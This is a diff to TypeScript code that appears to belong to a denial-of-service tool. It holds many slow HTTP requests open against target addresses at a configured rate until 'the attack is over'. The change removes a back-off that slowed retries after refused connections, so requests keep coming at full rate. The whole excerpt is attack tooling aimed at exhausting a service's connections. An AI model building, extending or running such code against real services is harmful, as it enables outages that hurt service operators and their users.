@@ -23,9 +23,6 @@ export const heldResponsesJobs = z.array(heldResponsesJob);
 /** After so long an attacker gives a response up and asks again: the service may have given it up long before. */
 const holdMs = 20_000;
 
-/** What cannot be connected is tried again after so long. */
-const retryMs = 200;
-
 /** Asks from all addresses at once, at the rate that the job allows, until the attack is over. */
 export async function holdResponses(job: HeldResponsesJob, attacker: Attacker): Promise<void> {
   await Promise.all(job.addresses.map((address) => new HeldResponses(address, job, attacker).run()));
@@ -39,8 +36,6 @@ export async function holdAllResponses(jobs: readonly HeldResponsesJob[], attack
 class HeldResponses {
   readonly #open = new Set<HeldResponse>();
   #opened = 0;
-  /** Set when a connection was refused, until the next one is tried. */
-  #isRefused = false;
 
   constructor(
     private readonly address: string,
@@ -49,17 +44,12 @@ class HeldResponses {
   ) {}
 
   async run(): Promise<void> {
-    const { atOnce, maxOpen } = this.job;
+    const { atOnce, maxOpen, perSecond } = this.job;
     for (let first = 0; first < atOnce; first += 1) this.#openOne();
-    while (await pause(this.#pauseMs(), this.attacker.signal)) {
-      this.#isRefused = false;
+    while (await pause(1_000 / (perSecond * this.attacker.rate), this.attacker.signal)) {
       if (this.#open.size < maxOpen) this.#openOne();
     }
     for (const held of this.#open) held.close();
-  }
-
-  #pauseMs(): number {
-    return this.#isRefused ? retryMs : 1_000 / (this.job.perSecond * this.attacker.rate);
   }
 
   #openOne(): void {
@@ -68,17 +58,10 @@ class HeldResponses {
     const text = texts[this.#opened % texts.length] ?? '';
     this.#opened += 1;
     count('requests');
-    const held = new HeldResponse(
-      { url, address: this.address, text, reading },
-      (event) => {
-        this.#isRefused ||= event === 'refused connection';
-        count(event);
-      },
-      () => {
-        clearTimeout(timer);
-        this.#open.delete(held);
-      },
-    );
+    const held = new HeldResponse({ url, address: this.address, text, reading }, count, () => {
+      clearTimeout(timer);
+      this.#open.delete(held);
+    });
     const timer = setTimeout(() => {
       held.close();
     }, holdMs);
